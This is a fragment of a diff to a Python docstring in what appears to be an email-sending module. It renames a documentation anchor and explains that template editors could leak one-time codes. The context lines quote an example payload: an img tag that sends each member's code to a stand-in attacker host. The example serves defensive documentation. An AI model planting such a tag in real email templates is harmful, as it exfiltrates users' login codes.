@@ -1,5 +1,5 @@
 """Where an email may print a secret: the one-time code and every emailed link
-(docs/security.md#email-secrets).
+(docs/security.md#email-escaping).
 
 An editor of the emails can write HTML around the placeholders, so ``<img
 src="https://attacker.example/p.gif?c={{ code }}">`` would hand every member's code to a
